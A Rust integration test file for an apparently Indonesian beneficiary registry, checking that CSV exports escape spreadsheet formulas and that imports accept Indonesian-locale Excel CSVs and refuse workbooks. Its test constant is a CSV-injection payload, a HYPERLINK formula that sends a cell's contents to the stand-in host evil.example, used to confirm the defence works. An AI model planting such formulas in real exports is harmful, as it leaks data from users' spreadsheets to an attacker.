//! CSV files to and from spreadsheets, on both databases: a beneficiary
//! named with a formula, and an officer's findings written as one, come
//! out as text in the decree starting list (`/sk/usulan`) and in the monev
//! report's CSV, and read back as they were; an import through the API
//! reads a file as Excel in an Indonesian locale saves it, and refuses a
//! workbook at once.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use pantau_registry::sheet::{Sheet, clean};
use serde_json::{Value, json};
use support::Running;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")";
const PROGRAM: &str = "bansos-kud-2026-lampung";

/// A KUD in Kota Bandar Lampung named [`FORMULA`], imported through the
/// API as offices import theirs; its id.
async fn import_formula(app: &Running) -> String {
    let admin = app.token("admin").await;
    let csv = format!(
        "kind,region_code,name,nik_koperasi,legal_entity_number,coop_kind,members,active\n\
         cooperative,18.71,\"{}\",1871020030009876,77/BH/X.3/2020,kud,40,ya\n",
        FORMULA.replace('"', "\"\"")
    );
    let r = app
        .http
        .post(app.url("/api/imports/beneficiaries"))
        .bearer_auth(&admin)
        .header("Content-Type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap();
    let report: Value = r.json().await.unwrap();
    assert_eq!(report["new"], 1, "{}: {report}", app.name);
    let (_, found) = app.get(&admin, "/api/beneficiaries?name=HYPERLINK").await;
    assert_eq!(found["items"][0]["name"], FORMULA, "{}: {found}", app.name);
    found["items"][0]["id"].as_str().unwrap().to_string()
}

/// `login` takes `action` on `case` with `inputs`.
async fn act(app: &Running, login: &str, case: &str, action: &str, inputs: Value) {
    let token = app.token(login).await;
    let (status, body) = app
        .post(
            &token,
            &format!("/api/cases/{case}/transitions"),
            &format!("{case}-{action}"),
            &json!({ "action": action, "inputs": inputs }),
        )
        .await;
    assert!(
        status == 200 || status == 201,
        "{}: {login} {action}: {status} {body}",
        app.name
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_come_out_as_text_and_read_back() {
    for app in support::apps().await {
        let name = app.name;
        let beneficiary = import_formula(&app).await;

        // Proposed and verified: the decree starting list names it as text,
        // and the list reads back.
        let manager = app.token("pengelola.1871").await;
        let (status, opened) = app
            .post(
                &manager,
                "/api/cases",
                "open-formula",
                &json!({ "program_id": PROGRAM, "region": "18.71", "beneficiary_id": beneficiary }),
            )
            .await;
        assert_eq!(status, 201, "{name}: {opened}");
        let case = opened["case"]["id"].as_str().unwrap().to_string();
        let r = app
            .http
            .post(app.url(&format!("/api/cases/{case}/attachments")))
            .bearer_auth(&manager)
            .header("Content-Type", "application/pdf")
            .body(pantau_demo::pdf(&["Proposal KUD".into()]))
            .send()
            .await
            .unwrap();
        let doc: Value = r.json().await.unwrap();
        act(&app, "pengelola.1871", &case, "submit", json!({
            "amount_requested": "Rp 20.000.000", "proposal_doc": doc["id"], "in_craft_centre": "ya"
        }))
        .await;
        act(
            &app,
            "verifikator.18",
            &case,
            "start_verification",
            json!({}),
        )
        .await;
        act(
            &app,
            "verifikator.18",
            &case,
            "verify",
            json!({
                "legal_entity_valid": "ya", "rat_held_last_year": "ya"
            }),
        )
        .await;
        let c = app.sign_in("verifikator.18").await;
        let r = c
            .get(app.url(&format!("/sk/usulan?program={PROGRAM}")))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{name}");
        let list = r.bytes().await.unwrap().to_vec();
        let shown = String::from_utf8(list.clone()).unwrap();
        assert!(shown.starts_with('\u{feff}'), "{name}: a BOM for Excel");
        let line = shown.lines().find(|l| l.starts_with(&case)).unwrap();
        assert!(
            line.contains(",\"'=HYPERLINK(\"\"http://"),
            "{name}: {line}"
        );
        let mut sheet = Sheet::open(list.as_slice()).unwrap();
        let column = sheet
            .names()
            .iter()
            .position(|n| n == "beneficiary")
            .unwrap();
        let mut names = vec![];
        while let Some(row) = sheet.next_row().unwrap() {
            if row.cells[0] == case {
                names.push(row.cells[column].to_string());
            }
        }
        assert_eq!(names, [FORMULA], "{name}");
        let lines = pantau_registry::decree::read(list.as_slice()).unwrap();
        let ours: Vec<_> = lines.iter().filter(|l| l.case_id == case).collect();
        assert_eq!(ours.len(), 1, "{name}: {lines:?}");
        assert_eq!(ours[0].amount.map(|a| a.get()), Some(20_000_000), "{name}");

        // Approved, paid and visited, the officer writing a formula as the
        // findings: in the monev report's CSV both are text and read back;
        // the GPS point Pantau formats stays two numbers.
        act(
            &app,
            "verifikator.18",
            &case,
            "approve",
            json!({ "amount_approved": "Rp 20.000.000" }),
        )
        .await;
        act(
            &app,
            "pengelola.1871",
            &case,
            "assign_officer",
            json!({ "officer": "petugas.1871" }),
        )
        .await;
        act(
            &app,
            "pengelola.18",
            &case,
            "disburse",
            json!({
                "transfer_ref": "SP2D-0042/2026", "transfer_date": "2026-11-20"
            }),
        )
        .await;
        let officer = app.token("petugas.1871").await;
        let photo = pantau_photo::samples::camera_photo(3);
        let (action, mut inputs) = support::visit_inputs(&app, &officer, &case, &photo).await;
        inputs.insert("findings".into(), json!(FORMULA));
        act(&app, "petugas.1871", &case, &action, Value::Object(inputs)).await;
        let admin = app.token("admin").await;
        let r = app
            .http
            .get(app.url(&format!("/api/reports/monev?case={case}&format=csv")))
            .bearer_auth(&admin)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{name}");
        let report = r.text().await.unwrap();
        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .flexible(true)
            .has_headers(false)
            .from_reader(report.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        let header = rows.iter().find(|r| r.len() > 1).unwrap();
        // The case as the report names it: its short id.
        let short = case[..8].to_string();
        let row = rows.iter().find(|r| r.contains(&short)).unwrap();
        let cell = |label: &str| row[header.iter().position(|h| h == label).unwrap()].clone();
        for label in ["Penerima", "Temuan"] {
            assert!(cell(label).starts_with("'=HYPERLINK("), "{name}: {report}");
            assert_eq!(clean(&cell(label)), FORMULA, "{name}: reads back");
        }
        let gps = cell("Titik lokasi (GPS)");
        assert!(gps.starts_with("-5.4"), "{name}: {gps}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_import_api_reads_an_indonesian_excel_file() {
    for app in support::apps().await {
        let name = app.name;
        let admin = app.token("admin").await;
        let send = |body: &'static [u8]| {
            app.http
                .post(app.url("/api/imports/beneficiaries"))
                .bearer_auth(&admin)
                .header("Content-Type", "text/csv")
                .body(body)
                .send()
        };
        let r = send(
            b"kind;region_code;name;nib;owner_nik;scale;lat;lon\r\n\
              umkm;18.71;Kopi Ren\xe9;9120009990001;1871014508900001;mikro;-5,4292;105,2619\r\n\
              umkm;18.1;Toko\xa0Pringsewu;9120009990002;1871014508900001;kecil;;\r\n\
              umkm;18.71;Warung Pendek;9120009990003\r\n\
              umkm;18.71;Toko Ilmiah;9120009990004;1,87101E+15;mikro;;\r\n",
        )
        .await
        .unwrap();
        assert_eq!(r.status(), 200, "{name}");
        let report: Value = r.json().await.unwrap();
        assert_eq!(
            (&report["new"], &report["refused"]),
            (&json!(2), &json!(2)),
            "{name}: {report}"
        );
        let where_: Vec<(u64, &str)> = report["refusals"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| (r["line"].as_u64().unwrap(), r["column"].as_str().unwrap()))
            .collect();
        assert_eq!(
            where_,
            [(4, "owner_nik"), (5, "owner_nik")],
            "{name}: {report}"
        );
        let (_, found) = app
            .get(&admin, "/api/beneficiaries?name=Toko%20Pringsewu")
            .await;
        assert_eq!(found["items"][0]["region_code"], "18.10", "{name}: {found}");

        let r = send(b"PK\x03\x04\x14\x00\x06\x00\x08\x00").await.unwrap();
        assert_eq!(r.status(), 400, "{name}");
        let body: Value = r.json().await.unwrap();
        assert!(
            body["fields"][0]["reason"]
                .as_str()
                .unwrap()
                .contains("CSV UTF-8"),
            "{name}: {body}"
        );
    }
}
